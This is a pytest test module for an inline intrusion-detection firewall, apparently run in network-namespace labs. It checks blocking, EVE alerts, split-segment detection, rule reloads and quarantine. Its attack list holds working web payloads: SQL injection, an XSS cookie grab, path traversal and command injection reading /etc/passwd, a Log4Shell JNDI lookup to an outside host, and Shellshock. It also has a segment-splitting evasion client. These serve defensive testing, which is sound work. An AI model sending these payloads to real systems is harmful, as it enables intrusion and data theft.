"""IDS signatures inline, through the real kernel path: attacks sent with curl
from the client namespace are dropped by the default signature set and
alerted in EVE (Suricata's alert fields, app_proto http, the http object),
the same requests without the attack pass, a request split across two TCP
segments is still caught, and signatures reload atomically from a rules
directory (a bad seed file keeps the running set)."""
import json
import time
from pathlib import Path

import pytest

from conftest import ControlClient, lab_with_rules, poll

pytestmark = [pytest.mark.netns, pytest.mark.socfwd]


def signatures_dir_config(lab_dir):
    def edit(text):
        return text + f"signatures:\n  paths: [{lab_dir}]\n"
    return edit


@pytest.fixture(scope="module", params=["router", "bridge"])
def ids_lab(request, tmp_path_factory):
    sigdir = tmp_path_factory.mktemp("signatures")
    lab = lab_with_rules(request, request.param, "id" + request.param[0], None, name="ids",
                         edit_config=signatures_dir_config(sigdir))
    lab.signatures_dir = sigdir
    return lab


def curl(lab, family, path, extra=(), timeout=2):
    host = lab.server_ip(family)
    url = f"http://{host}:80{path}" if family == 4 else f"http://[{host}]:80{path}"
    p = lab.ns(lab.client_ns, ["curl", "-sS", "--noproxy", "*", "-m", str(timeout), "-o", "/dev/null",
                               "-w", "%{http_code}", *extra, url], timeout=timeout + 10)
    return p.stdout.strip()


def eve_alerts(lab, offset):
    alerts = []
    for line in lab.read_from("LAB_EVE", offset).splitlines():
        try:
            e = json.loads(line)
        except ValueError:
            continue
        if e.get("event_type") == "alert" and "signature_id" in e.get("alert", {}):
            alerts.append(e)
    return alerts


ATTACKS = [
    # (name, path, curl arguments, sid that must fire)
    ("sqli-union", "/item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", (), 9000001),
    ("xss", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", (), 9000011),
    ("traversal", "/download?file=../../../../etc/passwd", ("--path-as-is",), 9000021),
    ("command-injection", "/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd", (), 9000031),
    ("log4shell", "/", ("-A", "${jndi:ldap://203.0.113.5:1389/a}"), 9000041),
    ("shellshock", "/cgi-bin/status", ("-H", "Referer: () { :; }; /bin/cat /etc/passwd"), 9000043),
    ("sqli-body", "/login", ("--data", "user=admin&id=1' UNION SELECT password FROM users--"), 9000005),
]

BENIGN = [
    ("/item.php?id=17", ()),
    ("/search?q=union%20station%20select%20seats", ()),
    ("/download?file=report-2024.pdf", ()),
    ("/cgi-bin/ping?host=127.0.0.1", ()),
    ("/", ("-A", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0")),
    ("/login", ("--data", "user=alice&password=correct+horse")),
]


@pytest.mark.parametrize("family", [4, 6])
def test_attacks_are_dropped_and_alerted_benign_requests_pass(ids_lab, family):
    lab = ids_lab
    offset = lab.file_size("LAB_EVE")
    for path, extra in BENIGN:
        assert curl(lab, family, path, extra) == "200", f"benign request {path} {extra} did not pass"
    time.sleep(0.5)  # the output thread writes EVE every 50 ms
    false_positives = [e for e in eve_alerts(lab, offset) if "app_proto" in e]
    assert not false_positives, f"benign requests alerted: {false_positives}"
    offset = lab.file_size("LAB_EVE")
    for name, path, extra, sid in ATTACKS:
        # The request segment is dropped after the handshake: no answer comes.
        assert curl(lab, family, path, extra) == "000", f"{name} was not blocked"
    alerts = poll(lambda: (a := eve_alerts(lab, offset)) and
                  {e["alert"]["signature_id"] for e in a} >= {s for *_, s in ATTACKS} and a, timeout=5)
    assert alerts, f"missing alerts: {eve_alerts(lab, offset)}"
    by_sid = {}
    for e in alerts:
        by_sid.setdefault(e["alert"]["signature_id"], []).append(e)
    server, client = lab.server_ip(family), lab.client_ip(family)
    for name, path, extra, sid in ATTACKS:
        e = by_sid[sid][0]
        assert e["alert"]["action"] == "blocked", (name, e)
        assert e["app_proto"] == "http", (name, e)
        assert e["src_ip"] == client and e["dest_ip"] == server and e["dest_port"] == 80, (name, e)
        assert e["proto"] == "TCP"
        assert e["http"]["http_method"] in ("GET", "POST") and e["http"]["url"].startswith(path.split("?")[0])
        assert isinstance(e["flow_id"], int) and e["flow_id"] > 0


SPLIT_CLIENT = r"""
import socket, sys, time
family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(family, socket.SOCK_STREAM)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
s.settimeout(3)
s.connect((sys.argv[1], 80))
req = b"GET /item.php?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1\r\nHost: lab\r\n\r\n"
cut = req.index(b"UNI") + 2
s.sendall(req[:cut])
time.sleep(0.3)
s.sendall(req[cut:])
try:
    print("answer" if s.recv(100) else "closed")
except socket.timeout:
    print("timeout")
except OSError as e:
    print("error", e)
"""


def test_an_attack_split_across_two_segments_is_caught(ids_lab):
    lab = ids_lab
    offset = lab.file_size("LAB_EVE")
    p = lab.ns(lab.client_ns, ["python3", "-c", SPLIT_CLIENT, lab.server_ip(4)], timeout=15)
    assert p.stdout.strip() == "timeout", p.stdout + p.stderr
    alerts = poll(lambda: [e for e in eve_alerts(lab, offset) if e["alert"]["signature_id"] == 9000001], timeout=5)
    assert alerts and alerts[0]["alert"]["action"] == "blocked"


def reload(lab):
    c = ControlClient(lab.env["LAB_SOCKET"])
    try:
        return c.call("reload")
    finally:
        c.close()


def test_signatures_reload_from_the_rules_directory_and_a_bad_file_keeps_them(ids_lab):
    lab = ids_lab
    rules = Path(lab.signatures_dir) / "local.rules"
    bad = Path(lab.signatures_dir) / "broken.yaml"
    try:
        assert curl(lab, 4, "/internal/secret-report") == "200"
        rules.write_text('drop http any any -> any any (msg:"LOCAL secret report"; flow:established,to_server; '
                         'http.uri; content:"/secret-report"; nocase; classtype:policy-violation; sid:8100001; rev:1;)\n')
        reply = reload(lab)
        assert "result" in reply, reply
        assert reply["result"]["signatures"]["rules_loaded"] == 1, reply
        assert curl(lab, 4, "/internal/secret-report") == "000"
        # A seed file with an error: the reload is refused with file and line, the running set stays.
        bad.write_text("signatures:\n  - id: 8100002\n    name: broken\n    pattern: 'x'\n    severity: extreme\n")
        reply = reload(lab)
        assert "error" in reply and "broken.yaml:5" in reply["error"]["message"], reply
        assert curl(lab, 4, "/internal/secret-report") == "000"
        assert curl(lab, 4, "/internal/other") == "200"
    finally:
        rules.unlink(missing_ok=True)
        bad.unlink(missing_ok=True)
        reload(lab)


def test_socfwctl_signatures_shows_matches_and_the_load_report(ids_lab):
    import os
    import subprocess
    repo = Path(__file__).resolve().parents[2]
    ctl = os.environ.get("SOCFWCTL_BIN") or str(repo / ".build" / "release" / "socfwctl")
    if not os.access(ctl, os.X_OK):
        pytest.skip(f"socfwctl not found at {ctl}")
    lab = ids_lab
    assert curl(lab, 4, "/item.php?id=1%20UNION%20SELECT%20password%20FROM%20users") == "000"

    def stats():
        p = subprocess.run([ctl, "signatures", "stats", "--top", "50", "--json", "--socket", lab.env["LAB_SOCKET"]],
                           capture_output=True, text=True, timeout=10)
        assert p.returncode == 0, p.stderr
        return json.loads(p.stdout)
    # Workers publish their counts once a second.
    s = poll(lambda: (r := stats()) and any(t["sid"] == 9000001 for t in r["top"]) and r, timeout=5)
    assert s, stats()
    assert s["active"] >= 16 and s["load"]["seed"] >= 16
    top = next(t for t in s["top"] if t["sid"] == 9000001)
    assert top["matches"] >= 1 and top["action"] == "drop" and top["context"] == "http_request"
    p = subprocess.run([ctl, "signatures", "list", "--sid", "9000041", "--socket", lab.env["LAB_SOCKET"]],
                       capture_output=True, text=True, timeout=10)
    assert p.returncode == 0 and "Log4Shell" in p.stdout, p.stdout + p.stderr


@pytest.fixture(scope="module")
def sigq_lab(request):
    def edit(text):
        return text + "signatures:\n  quarantine:\n    sids: [9000041]\n    duration: 10m\n"
    return lab_with_rules(request, "router", "sq", None, name="sigq", edit_config=edit)


def test_a_signature_configured_to_quarantine_cuts_the_attacker_off_in_the_kernel(sigq_lab):
    """signatures.quarantine: the Log4Shell probe is dropped and its client
    quarantined (database row, audit, kernel set), so its next, harmless,
    request fails too; release restores it."""
    lab = sigq_lab
    c = ControlClient(lab.env["LAB_SOCKET"])
    try:
        client = lab.client_ip(4)
        # Another blocking signature (not listed) does not quarantine.
        assert curl(lab, 4, "/item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--") == "000"
        assert curl(lab, 4, "/") == "200"
        assert curl(lab, 4, "/", ("-A", "${jndi:ldap://203.0.113.5:1389/a}")) == "000"

        def quarantined():
            rows = c.call("quarantine.list")["result"]["quarantined"]
            return [q for q in rows if q["target"] == client]
        rows = poll(quarantined, timeout=5)
        assert rows, c.call("quarantine.list")
        q = rows[0]
        assert q["source"] == "rule" and q["reason"].startswith("signature 9000041:"), q
        assert 590 <= (q["expires_ns"] - q["timestamp_ns"]) / 1e9 <= 640, q  # 10 minutes (and jitter)
        assert curl(lab, 4, "/") == "000", "the quarantined client still reaches the server"
        assert lab.probe("tcp", 6, 80)["result"] == "ok", "only the attacker's address is quarantined"
        import sqlite3
        with sqlite3.connect(lab.env["LAB_DB"]) as db:
            actors = [a for (a,) in db.execute("SELECT actor FROM audit_log WHERE action = 'quarantine'")]
        assert "signature:9000041" in actors, actors
        assert "result" in c.call("quarantine.remove", {"target": client})
        assert poll(lambda: curl(lab, 4, "/") == "200", timeout=5)
    finally:
        c.close()
